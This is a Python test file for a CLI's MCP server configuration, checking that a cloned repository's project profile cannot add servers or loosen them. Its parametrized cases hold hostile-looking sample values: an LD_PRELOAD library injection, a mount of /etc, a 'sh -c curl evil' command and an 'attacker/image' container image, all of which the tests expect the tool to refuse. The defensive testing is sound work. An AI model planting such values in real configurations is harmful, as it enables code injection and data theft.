"""mcp.servers in profile files, through the real CLI: the user's file declares servers; a project file
(a cloned repository's .victor/profiles.yaml) may disable or narrow one, never add one or loosen one,
and is refused with its file, line and reason (exit 2)."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from tests.mcp.conftest import notes_server

USER = {"mcp": {"servers": {"notes": notes_server()}}}


def write(path: Path, data: dict) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    return path


@pytest.mark.parametrize("command", [["profiles", "validate"], ["mcp", "list"]])
def test_a_project_file_that_adds_a_server_is_refused_with_file_line_and_reason(project: Path, victor,
                                                                                command: list[str]) -> None:
    project_file = project / ".victor" / "profiles.yaml"
    project_file.parent.mkdir()
    project_file.write_text("approvals:\n  mode: ask\nmcp:\n  servers:\n    helper:\n"
                            "      command: [python3, -m, helper]\n      network: true\n")
    done = victor(*command, cwd=project)
    assert done.returncode == 2, done.stdout + done.stderr
    assert f"{project_file}:5: a project file may tighten security but not loosen it: 'mcp.servers.helper' " \
           "adds the MCP server 'helper'" in done.stderr
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize(("change", "key", "reason"), [
    ({"network": True}, "network", "opens the network of the MCP server 'notes'"),
    ({"env": {"LD_PRELOAD": "/opt/x.so"}}, "env", "gives the MCP server 'notes' more environment"),
    ({"env": {"PYTHONPATH": "/workspace"}}, "env", "gives the MCP server 'notes' more environment"),
    ({"mounts": [{"source": "/etc", "target": "/opt/etc"}]}, "mounts", "mounts more host directories"),
    ({"command": ["sh", "-c", "curl evil"]}, "command", "changes what the MCP server 'notes' runs"),
    ({"image": "attacker/image:latest"}, "image", "changes what the MCP server 'notes' runs"),
    ({"max_tools": 100}, "max_tools", "offers more tools"),
    ({"timeout_s": 3600}, "timeout_s", "raises the timeout"),
])
def test_a_project_file_may_not_loosen_a_server(project: Path, victor, victor_home: Path, change: dict, key: str,
                                                reason: str) -> None:
    write(victor_home / "profiles.yaml", USER)
    project_file = write(project / ".victor" / "profiles.yaml", {"mcp": {"servers": {"notes": change}}})
    done = victor("profiles", "validate", cwd=project)
    assert done.returncode == 2, done.stdout + done.stderr
    assert f"{project_file}:" in done.stderr and f"'mcp.servers.notes.{key}'" in done.stderr, done.stderr
    assert reason in done.stderr


def test_a_project_file_may_disable_or_narrow_a_server(project: Path, victor, victor_home: Path) -> None:
    write(victor_home / "profiles.yaml", USER)
    write(project / ".victor" / "profiles.yaml",
          {"mcp": {"servers": {"notes": {"tools": ["add"], "max_tools": 2, "timeout_s": 5}}}})
    assert victor("profiles", "validate", cwd=project).returncode == 0
    write(project / ".victor" / "profiles.yaml", {"mcp": {"servers": {"notes": {"enabled": False}}}})
    done = victor("mcp", "list", cwd=project)
    assert done.returncode == 0, done.stderr
    assert "notes  stdio  disabled" in done.stdout


def test_the_user_file_may_open_a_servers_network_but_not_above_the_organisation(project: Path, victor,
                                                                                  victor_home: Path) -> None:
    org = write(victor_home / "org.yaml", USER)
    write(victor_home / "profiles.yaml", {"mcp": {"servers": {"notes": notes_server(network=True)}}})
    assert victor("profiles", "validate", cwd=project).returncode == 0
    done = victor("profiles", "validate", cwd=project, env={"VICTOR_ORG_CONFIG": str(org)})
    assert done.returncode == 2
    assert "'mcp.servers.notes.network' opens the network of the MCP server 'notes', but your organisation's " \
           "profile file sets it" in done.stderr


@pytest.mark.parametrize(("server", "message"), [
    ({"command": ["x"], "url": "http://127.0.0.1:9/mcp"}, "either 'command'"),
    ({}, "either 'command'"),
    ({"command": ["x"], "mounts": [{"source": "relative/dir", "target": "/opt/x"}]}, "must be absolute"),
    ({"command": ["x"], "toools": ["*"]}, "toools"),
])
def test_a_malformed_server_entry_is_one_line_naming_the_file(project: Path, victor, victor_home: Path,
                                                              server: dict, message: str) -> None:
    user = write(victor_home / "profiles.yaml", {"mcp": {"servers": {"notes": server}}})
    done = victor("profiles", "validate", cwd=project)
    assert done.returncode == 2
    assert str(user) in done.stderr and message in done.stderr, done.stderr
    assert "Traceback" not in done.stderr


def test_a_server_name_that_cannot_be_part_of_a_tool_name_is_refused(project: Path, victor,
                                                                     victor_home: Path) -> None:
    write(victor_home / "profiles.yaml", {"mcp": {"servers": {"my__notes": {"command": ["x"]}}}})
    done = victor("profiles", "validate", cwd=project)
    assert done.returncode == 2
    assert "MCP server name 'my__notes'" in done.stderr
